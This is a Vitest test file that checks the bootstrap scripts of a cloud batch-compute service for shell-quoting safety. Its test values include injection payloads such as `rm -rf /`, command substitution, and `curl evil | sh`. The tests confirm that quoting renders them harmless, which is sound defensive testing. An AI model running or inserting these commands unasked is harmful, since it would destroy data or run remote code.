/**
 * The boot scripts: complete, and safe for any input — hostile values go through real bash and a
 * POSIX sh reading the env file (systemd documents its double-quoted values as POSIX sh's).
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import {
  agentUrls,
  NODE_TARBALL_SHA256,
  NODE_VERSION,
  renderNodeBootstrap,
  renderServiceBootstrap,
  shellQuote,
  systemdEnvironmentValue,
} from "../../../provider/bootstrap.js";

const HOSTILE = [
  "plain",
  "it's",
  `"; rm -rf / #`,
  "$(touch /tmp/pwned)`id`$HOME$" + "{PATH}",
  'back\\slash\\n and \\" quote',
  "two\nlines\n",
  "  spaced  ",
  "ünïcødé ✓",
  "'''",
  "%s%n",
];

const scratch = mkdtempSync(join(tmpdir(), "openbatch-bootstrap-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe("quoting", () => {
  it.each(HOSTILE)("shellQuote gives bash back exactly %j", (value) => {
    expect(execFileSync("bash", ["-c", `printf '%s' ${shellQuote(value)}`], { encoding: "utf8" })).toBe(
      value,
    );
  });

  it.each(HOSTILE)("an env file line gives back exactly %j", (value) => {
    const file = join(scratch, "value.env");
    writeFileSync(file, `VALUE=${systemdEnvironmentValue(value)}\n`);
    const read = execFileSync("sh", ["-c", `. "$1"; printf '%s' "$VALUE"`, "sh", file], { encoding: "utf8" });
    expect(read).toBe(value);
  });

  it("refuses NUL characters", () => {
    expect(() => shellQuote("a\0b")).toThrow(/NUL/);
    expect(() => systemdEnvironmentValue("a\0b")).toThrow(/NUL/);
  });
});

describe("renderNodeBootstrap", () => {
  const options = {
    cloud: "azure" as const,
    accountEndpoint: "https://batch.example.test:8443",
    poolId: "mpi_pool-1",
    joinToken: HOSTILE.join("|"),
  };

  it("derives the agent's WebSocket URL and the bundle URL from the endpoint", () => {
    expect(agentUrls("http://10.0.0.4:8765/")).toEqual({
      serviceUrl: "ws://10.0.0.4:8765/openbatch/agent",
      bundleUrl: "http://10.0.0.4:8765/openbatch/agent/bundle.tar.gz",
    });
    expect(agentUrls("https://batch.example.test:8443").serviceUrl).toBe(
      "wss://batch.example.test:8443/openbatch/agent",
    );
    expect(() => agentUrls("ftp://x")).toThrow(/http/);
    expect(() => agentUrls("not a url")).toThrow(/not a URL/);
  });

  it("is a bash script that parses, with a hostile token", () => {
    const script = renderNodeBootstrap(options);
    const file = join(scratch, "node.sh");
    writeFileSync(file, script);
    expect(() => execFileSync("bash", ["-n", file])).not.toThrow();
  });

  it("installs the pinned Node, checks its SHA-256, fetches the bundle and starts the agent unit", () => {
    const script = renderNodeBootstrap(options);
    expect(script).toContain(
      `https://nodejs.org/dist/v${NODE_VERSION}/node-v${NODE_VERSION}-linux-$NODE_ARCH.tar.xz`,
    );
    expect(script).toContain(NODE_TARBALL_SHA256.x64);
    expect(script).toContain(NODE_TARBALL_SHA256.arm64);
    expect(script).toContain("sha256sum --check --strict");
    expect(script).toContain("BUNDLE_URL='https://batch.example.test:8443/openbatch/agent/bundle.tar.gz'");
    expect(script).toContain(
      `ExecStart=/opt/openbatch-agent/current/bin/openbatch-agent --service-url \${OPENBATCH_SERVICE_URL} --pool-id \${OPENBATCH_POOL_ID} --machine-id \${OPENBATCH_MACHINE_ID} --root /var/lib/openbatch-agent`,
    );
    expect(script).toContain("EnvironmentFile=/etc/openbatch/agent.env");
    expect(script).toContain("Restart=always");
    expect(script).toContain("systemctl enable --now openbatch-agent.service");
  });

  it("reads the machine id from each cloud's metadata service", () => {
    expect(renderNodeBootstrap(options)).toContain(
      '-H Metadata:true "http://169.254.169.254/metadata/instance/compute/name',
    );
    const aws = renderNodeBootstrap({ ...options, cloud: "aws" });
    expect(aws).toContain(
      '-X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 300" http://169.254.169.254/latest/api/token',
    );
    expect(aws).toContain("http://169.254.169.254/latest/meta-data/instance-id");
  });

  it("writes the token only into a 0600 env file that gives it back unchanged", () => {
    const script = renderNodeBootstrap(options);
    const lines = script.split("\n");
    const start = lines.indexOf("install -d -m 0700 /etc/openbatch");
    const end = lines.findIndex((line) => line.startsWith("chmod 0600 "));
    expect(start).toBeGreaterThan(0);
    const directory = join(scratch, "etc-openbatch");
    const fragment = lines
      .slice(start, end + 1)
      .join("\n")
      .replaceAll("/etc/openbatch", directory);
    execFileSync("bash", ["-euo", "pipefail", "-c", `MACHINE_ID=vm-7\n${fragment}`]);
    const envFile = join(directory, "agent.env");
    expect(statSync(envFile).mode & 0o777).toBe(0o600);
    const read = (name: string) =>
      execFileSync("sh", ["-c", `. "$1"; printf '%s' "$${name}"`, "sh", envFile], { encoding: "utf8" });
    expect(read("OPENBATCH_JOIN_TOKEN")).toBe(options.joinToken);
    expect(read("OPENBATCH_MACHINE_ID")).toBe("vm-7");
    expect(read("OPENBATCH_SERVICE_URL")).toBe("wss://batch.example.test:8443/openbatch/agent");
    expect(read("OPENBATCH_POOL_ID")).toBe("mpi_pool-1");
    // Nowhere else: not in the unit, not on any command line.
    const elsewhere = lines.filter((_, index) => index < start || index > end).join("\n");
    expect(elsewhere).not.toContain("rm -rf / #");
    expect(readFileSync(envFile, "utf8")).toContain("OPENBATCH_JOIN_TOKEN=");
  });

  it("refuses what it cannot render safely, saying what to fix", () => {
    expect(() => renderNodeBootstrap({ ...options, poolId: "bad pool" })).toThrow(
      /poolId 'bad pool' is not a valid pool id/,
    );
    expect(() => renderNodeBootstrap({ ...options, joinToken: "" })).toThrow(/joinToken is empty/);
    expect(() => renderNodeBootstrap({ ...options, accountEndpoint: "10.0.0.4:8765" })).toThrow(/http/);
  });
});

describe("renderServiceBootstrap", () => {
  const options = {
    cloud: "aws" as const,
    accountName: "research",
    accountKey: HOSTILE.join("|"),
    port: 8765,
    packageSpec: "openbatch@0.1.0; curl evil | sh",
    groupPrefix: "openbatch-",
    awsRegion: "eu-west-1",
  };

  it("installs the package from npm and runs the service with the provisioner flags, key in the env file", () => {
    const script = renderServiceBootstrap(options);
    const file = join(scratch, "service.sh");
    writeFileSync(file, script);
    expect(() => execFileSync("bash", ["-n", file])).not.toThrow();
    expect(script).toContain("npm install --global --no-audit --no-fund 'openbatch@0.1.0; curl evil | sh'");
    expect(script).toContain(
      `ExecStart=/opt/nodejs/bin/openbatch service start --host 0.0.0.0 --port \${OPENBATCH_PORT} --data-dir /var/lib/openbatch --account-name \${OPENBATCH_ACCOUNT_NAME} --provisioner aws --aws-region \${OPENBATCH_AWS_REGION} --auto-scaling-group-prefix \${OPENBATCH_GROUP_PREFIX}`,
    );
    expect(script).toContain("EnvironmentFile=/etc/openbatch/service.env");
    expect(script).not.toContain("--account-key");
    expect(script).toContain('OPENBATCH_AWS_REGION="eu-west-1"');
  });

  it("passes the Azure provisioner its subscription and resource group", () => {
    const script = renderServiceBootstrap({
      ...options,
      cloud: "azure",
      azureSubscriptionId: "sub-1",
      azureResourceGroup: "rg-1",
    });
    expect(script).toContain(
      `--provisioner azure --azure-subscription-id \${OPENBATCH_AZURE_SUBSCRIPTION_ID}`,
    );
    expect(script).toContain('OPENBATCH_AZURE_RESOURCE_GROUP="rg-1"');
    expect(() => renderServiceBootstrap({ ...options, cloud: "azure" })).toThrow(/azureSubscriptionId/);
  });

  it("refuses bad account names and ports", () => {
    expect(() => renderServiceBootstrap({ ...options, accountName: "Bad_Name" })).toThrow(/lower-case/);
    expect(() => renderServiceBootstrap({ ...options, port: 70000 })).toThrow(/not a TCP port/);
  });
});
